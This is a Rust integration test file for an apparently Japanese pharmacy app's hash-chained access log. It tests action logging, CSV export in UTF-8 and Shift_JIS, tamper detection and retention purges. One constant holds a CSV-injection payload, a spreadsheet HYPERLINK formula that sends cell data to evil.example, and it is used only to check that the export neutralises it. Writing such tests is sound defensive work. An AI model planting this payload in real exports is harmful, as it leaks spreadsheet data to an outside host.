//! The アクセスログ: each kind of action appears with its person and document (edits made offline with the
//! device's time beside the server's), the CSV reads back in both encodings, the verify command names the
//! first entry that was altered, deleted, reordered or inserted, and a chain rewritten whole (hashes
//! recomputed) raises the alarm on a 管理者 device that saw the old head.

use std::path::Path;
use std::process::Command;

use base64::Engine;
use mamori_server::access_log::AccessLog;
use mamori_server::access_log::chain::{Entry, GENESIS};
use mamori_tests::TestServer;
use mamori_tests::passkeys::{joined, my_facility, registered_admin, run, status};

/// A name that spreadsheets would run as a formula.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
use mamori_tests::server::{maintenance, server_binary};
use serde_json::Value;
use sqlx::SqlitePool;

async fn log_of(admin: &mamori_tests::Browser, facility: &str) -> Vec<Value> {
    let v = run(
        admin,
        &format!("return api('GET', '/api/facilities/{facility}/log');"),
    )
    .await;
    assert_eq!(status(&v), 200, "{v}");
    v["body"]["entries"].as_array().unwrap().clone()
}

fn find<'a>(entries: &'a [Value], kind: &str, name: &str) -> Option<&'a Value> {
    entries
        .iter()
        .find(|e| e["kind"] == kind && e["name"] == name)
}

/// The CSV at `url`, fetched by the signed-in browser, as bytes.
async fn download(b: &mamori_tests::Browser, url: &str) -> Vec<u8> {
    let b64 = b
        .eval_async(&format!(
            "fetch('{url}').then(r => r.arrayBuffer()).then(buf => {{ let s = ''; new Uint8Array(buf).forEach(c => s += String.fromCharCode(c)); done(btoa(s)); }})"
        ))
        .await;
    base64::engine::general_purpose::STANDARD
        .decode(b64.as_str().unwrap())
        .unwrap()
}

fn rows(text: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_action_is_logged_with_its_person_document_and_times() {
    let server = TestServer::start_signed_in().await;
    let admin = registered_admin(&server, "みなと薬局", "佐藤 花子").await;
    let facility = my_facility(&admin).await;
    let (staff, staff_id) = joined(&server, &admin, "staff", "田中 一郎").await;

    let url = staff.open_first_checklist().await;
    let doc = url.rsplit('/').next().unwrap().to_string();
    staff
        .click(r#"li[data-item="1-①"] button[data-choice="yes"]"#)
        .await;
    staff.wait(r#".sync-state[data-sync="synced"]"#).await;
    // Offline, then synced: the entry carries the device's time and the server's. The checklist is opened
    // again offline (the app from the service worker's cache): that open is logged on the next connection.
    staff.wait_for_service_worker().await;
    staff.set_offline(true).await;
    staff.goto(&url).await;
    staff.wait(r#".save-state[data-network="offline"]"#).await;
    staff.click(r#".section-tabs a[href$="/section/2"]"#).await;
    staff
        .click(r#"li[data-item="2-⑥"] button[data-choice="no"]"#)
        .await;
    staff.wait_saved().await;
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    staff.set_offline(false).await;
    staff.wait(r#".sync-state[data-sync="synced"]"#).await;

    let role = run(
        &admin,
        &format!("await reauth(); return api('POST', '/api/facilities/{facility}/people/{staff_id}/role', {{ role: 'viewer' }});"),
    )
    .await;
    assert_eq!(status(&role), 200, "{role}");
    let removed = run(
        &admin,
        &format!("return api('POST', '/api/facilities/{facility}/people/{staff_id}/remove');"),
    )
    .await;
    assert_eq!(status(&removed), 200, "{removed}");
    // The removed person tries to sign in with a valid passkey: refused, and logged under their name.
    let refused = run(&staff, &format!("return signIn('{staff_id}');")).await;
    assert_eq!(status(&refused), 403, "{refused}");
    // The 管理者 signs out and back in.
    let admin_id = run(&admin, "return api('GET', '/api/me');").await["body"]["person_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        status(&run(&admin, "return api('POST', '/api/signout');").await),
        200
    );
    assert_eq!(
        status(&run(&admin, &format!("return signIn('{admin_id}');")).await),
        200
    );

    let entries = log_of(&admin, &facility).await;
    for (kind, name) in [
        ("sign_in", "佐藤 花子"),
        ("invited", "佐藤 花子"),
        ("joined", "田中 一郎"),
        ("open", "田中 一郎"),
        ("change", "田中 一郎"),
        ("role_changed", "佐藤 花子"),
        ("reauthenticated", "佐藤 花子"),
        ("removed", "佐藤 花子"),
        ("sign_in_failed", "田中 一郎"),
        ("sign_out", "佐藤 花子"),
    ] {
        assert!(
            find(&entries, kind, name).is_some(),
            "no {kind} by {name} in {entries:#?}"
        );
    }
    assert!(
        entries.iter().any(|e| e["kind"] == "open"
            && e["name"] == "田中 一郎"
            && e["document"] == doc.as_str()),
        "the checklist's open by 田中: {entries:#?}"
    );
    let changes: Vec<&Value> = entries
        .iter()
        .filter(|e| e["kind"] == "change" && e["document"] == doc.as_str())
        .collect();
    assert!(changes.iter().any(|e| e["detail"] == "1-①"), "{changes:#?}");
    let offline = changes
        .iter()
        .find(|e| e["detail"] == "2-⑥")
        .unwrap_or_else(|| panic!("{changes:#?}"));
    let (device_at, at) = (
        offline["device_at"].as_i64().expect("the device's time"),
        offline["at"].as_i64().unwrap(),
    );
    assert!(
        at - device_at >= 1000,
        "made offline before it reached the server: device {device_at}, server {at}"
    );
    let offline_open = entries
        .iter()
        .find(|e| e["kind"] == "open" && e["detail"] == "オフラインで閲覧 (opened offline)")
        .unwrap_or_else(|| panic!("no offline open in {entries:#?}"));
    assert_eq!(offline_open["name"], "田中 一郎");
    assert_eq!(offline_open["document"], doc.as_str());
    assert!(
        offline_open["at"].as_i64().unwrap() - offline_open["device_at"].as_i64().unwrap() >= 1000
    );
    assert!(
        find(&entries, "role_changed", "佐藤 花子").unwrap()["detail"]
            .as_str()
            .unwrap()
            .contains("田中 一郎")
    );

    // Filtered by kind and by person.
    let only = run(
        &admin,
        &format!(
            "return api('GET', '/api/facilities/{facility}/log?kind=change&person={staff_id}');"
        ),
    )
    .await;
    let only = only["body"]["entries"].as_array().unwrap();
    assert!(
        !only.is_empty()
            && only
                .iter()
                .all(|e| e["kind"] == "change" && e["name"] == "田中 一郎")
    );

    // The monthly review mark.
    let reviewed = run(
        &admin,
        &format!("return api('POST', '/api/facilities/{facility}/log/review');"),
    )
    .await;
    assert_eq!(status(&reviewed), 200);

    // Someone joins under a name that is a spreadsheet formula (CSV injection).
    let (mallory, _) = joined(&server, &admin, "viewer", FORMULA_NAME).await;
    mallory.close().await;

    // CSV in both encodings, read back with a CSV reader.
    let utf8 = download(
        &admin,
        &format!("/api/facilities/{facility}/log.csv?encoding=utf8"),
    )
    .await;
    assert!(
        utf8.starts_with("\u{feff}".as_bytes()),
        "UTF-8 with a BOM for Excel"
    );
    let sjis = download(
        &admin,
        &format!("/api/facilities/{facility}/log.csv?encoding=sjis"),
    )
    .await;
    let (sjis_text, _, bad) = encoding_rs::SHIFT_JIS.decode(&sjis);
    assert!(!bad, "valid Shift_JIS");
    for text in [
        String::from_utf8(utf8[3..].to_vec()).unwrap(),
        sjis_text.into_owned(),
    ] {
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_string)
            .collect();
        assert_eq!(header, mamori_server::routes::log::CSV_HEADER.to_vec());
        let all = rows(&text);
        assert!(
            all.iter().any(|r| r[3] == "田中 一郎"
                && r[4] == "変更"
                && r[6] == "2-⑥"
                && !r[2].is_empty()),
            "{all:?}"
        );
        assert!(
            all.iter()
                .any(|r| r[3] == "佐藤 花子" && r[4] == "役割の変更")
        );
        // The formula is written as text: no cell starts one, and the name is there behind an apostrophe.
        assert!(
            all.iter()
                .any(|r| r[3] == format!("'{FORMULA_NAME}") && r[4] == "参加"),
            "{all:?}"
        );
        assert!(
            all.iter()
                .flatten()
                .all(|c| !c.starts_with(['=', '+', '-', '@'])),
            "{all:?}"
        );
        let last = all.last().unwrap();
        assert_eq!(last[4], "チェーンの先頭ハッシュ (head)");
        assert_eq!(last[8].len(), 64);
    }

    // Exports and the review are logged too.
    let after = log_of(&admin, &facility).await;
    for kind in ["exported", "reviewed"] {
        assert!(
            find(&after, kind, "佐藤 花子").is_some(),
            "no {kind}: {after:#?}"
        );
    }

    // The log screen shows it too.
    admin.goto(&format!("{}/log", server.url)).await;
    admin.wait(r#".log-row[data-kind="change"]"#).await;
    admin.wait(".last-review").await;
    assert!(
        !admin
            .eval_string("return document.querySelector('.last-review').textContent")
            .await
            .contains('—')
    );

    admin.close().await;
    staff.close().await;
}

/// A consistent copy of the live store (`VACUUM INTO`) in a new folder.
async fn copy_store(pool: &SqlitePool, dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    sqlx::query(sqlx::AssertSqlSafe(format!(
        "VACUUM INTO '{}'",
        dir.join("mamori.db").display()
    )))
    .execute(pool)
    .await
    .unwrap();
}

fn verify(dir: &Path) -> (bool, String) {
    maintenance(dir, &["verify-log"])
}

/// The log's entries as the server reads them (its own pool on the same file).
async fn entries(db: &Path) -> Vec<Entry> {
    let pool = mamori_server::db::open_sqlite_file(db).await.unwrap();
    let all = AccessLog::new(pool.clone()).remaining().await.unwrap().1;
    pool.close().await;
    all
}

async fn write(pool: &SqlitePool, e: &Entry) {
    sqlx::query("INSERT OR REPLACE INTO access_log (seq, at, device_at, facility_id, person_id, name, kind, document, detail, device, prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)")
        .bind(e.seq).bind(e.at).bind(e.device_at).bind(&e.facility).bind(&e.person).bind(&e.name)
        .bind(&e.kind).bind(&e.document).bind(&e.detail).bind(&e.device).bind(&e.prev_hash).bind(&e.hash)
        .execute(pool)
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tampering_is_named_and_a_rewritten_chain_alarms_an_administrator_device() {
    let server = TestServer::start_signed_in().await;
    let admin = registered_admin(&server, "みなと薬局", "佐藤 花子").await;
    let facility = my_facility(&admin).await;
    for _ in 0..3 {
        run(
            &admin,
            &format!("return api('POST', '/api/facilities/{facility}/log/review');"),
        )
        .await;
    }
    // The 管理者 device has seen the head.
    admin.goto(&format!("{}/account", server.url)).await;
    admin.wait(".me").await;
    admin
        .wait_until(
            "the device remembers the log's head",
            "JSON.parse(localStorage.getItem('mamori.settings')).log_head !== null",
        )
        .await;

    let db = server.data_dir().join("mamori.db");
    let pool = SqlitePool::connect(&format!("sqlite:{}", db.display()))
        .await
        .unwrap();
    let work = tempfile::tempdir().unwrap();
    let intact = work.path().join("intact");
    copy_store(&pool, &intact).await;
    let (ok, said) = verify(&intact);
    assert!(ok && said.contains("intact"), "{said}");
    // A backup is logged (by the command, beside the running server).
    let backup = work.path().join("backup.db");
    let out = Command::new(server_binary())
        .args([
            "--data-dir",
            server.data_dir().to_str().unwrap(),
            "backup",
            "--to",
            backup.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(entries(&db).await.iter().any(|e| e.kind == "backup"));

    type Tamper = fn(Vec<Entry>) -> Vec<Entry>;
    let cases: [(&str, Tamper, &str); 4] = [
        (
            "altered",
            |mut e| {
                e[1].name = "田中 一郎".into();
                e
            },
            "entry 2:",
        ),
        (
            "deleted",
            |mut e| {
                e.remove(1);
                e
            },
            "entry 3:",
        ),
        (
            "reordered",
            |mut e| {
                let (a, b) = (e[1].seq, e[2].seq);
                e[1].seq = b;
                e[2].seq = a;
                e
            },
            "entry 2:",
        ),
        (
            "inserted",
            |mut e| {
                let forged = Entry {
                    seq: 3,
                    kind: "role_changed".into(),
                    detail: "誰か → 管理者".into(),
                    ..e[1].clone()
                }
                .seal(&e[1].hash);
                for later in e.iter_mut().skip(2) {
                    later.seq += 1;
                }
                e.insert(2, forged);
                e
            },
            "entry 4:",
        ),
    ];
    for (what, tamper, names) in cases {
        let dir = work.path().join(what);
        copy_store(&pool, &dir).await;
        let copy = SqlitePool::connect(&format!("sqlite:{}", dir.join("mamori.db").display()))
            .await
            .unwrap();
        let tampered = tamper(entries(&dir.join("mamori.db")).await);
        sqlx::query("DELETE FROM access_log")
            .execute(&copy)
            .await
            .unwrap();
        for e in &tampered {
            write(&copy, e).await;
        }
        copy.close().await;
        let (ok, said) = verify(&dir);
        assert!(!ok, "{what}: not detected: {said}");
        assert!(
            said.contains(names),
            "{what}: should name {names:?}: {said}"
        );
    }

    // Someone rewrites the whole chain consistently: the verify command cannot tell, the device can.
    let mut all = entries(&db).await;
    all[0].detail = "書き換え".into();
    let mut prev = GENESIS.to_string();
    for e in all.iter_mut() {
        *e = e.clone().seal(&prev);
        prev = e.hash.clone();
        write(&pool, e).await;
    }
    let rewritten = work.path().join("rewritten");
    copy_store(&pool, &rewritten).await;
    assert!(
        verify(&rewritten).0,
        "a consistent rewrite passes the chain check"
    );
    admin.goto(&format!("{}/account", server.url)).await;
    admin.wait(".log-alarm").await;
    admin.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retention_purges_only_old_entries_from_the_start_behind_a_checkpoint() {
    use mamori_server::access_log::{Event, Kind};
    use std::time::Duration;
    const DAY: i64 = 24 * 3600 * 1000;
    let retention = Duration::from_secs(5 * 365 * 24 * 3600);
    let dir = tempfile::tempdir().unwrap();
    let store = mamori_server::store::sql::SqlStore::open(dir.path())
        .await
        .unwrap();
    let log = AccessLog::new(store.pool());
    // Six years of entries, one a year, from a clock we move.
    let start = 1_600_000_000_000;
    for year in 0..6 {
        log.append(
            &Event::new(Kind::SignIn).detail(format!("year {year}")),
            start + year * 365 * DAY,
        )
        .await
        .unwrap();
    }
    let now = start + 6 * 365 * DAY + DAY;
    // Nothing is old enough yet when the clock is five years on.
    assert_eq!(
        log.purge(start + 5 * 365 * DAY, retention).await.unwrap(),
        0
    );

    // A year later, the first two entries (older than five years) go, behind a checkpoint.
    assert_eq!(log.purge(now, retention).await.unwrap(), 2);
    let (anchor, kept) = log.remaining().await.unwrap();
    assert_eq!(anchor.0, 2);
    let details: Vec<&str> = kept.iter().map(|e| e.detail.as_str()).collect();
    assert_eq!(&details[..4], ["year 2", "year 3", "year 4", "year 5"]);
    assert_eq!(kept.last().unwrap().kind, "checkpoint");
    // Verification starts from the checkpoint, and removing more from the start is still caught.
    let (ok, said) = verify(dir.path());
    assert!(ok, "{said}");
    sqlx::query("DELETE FROM access_log WHERE seq = 3")
        .execute(&store.pool())
        .await
        .unwrap();
    let (ok, said) = verify(dir.path());
    assert!(!ok && said.contains("entry 4:"), "{said}");
}
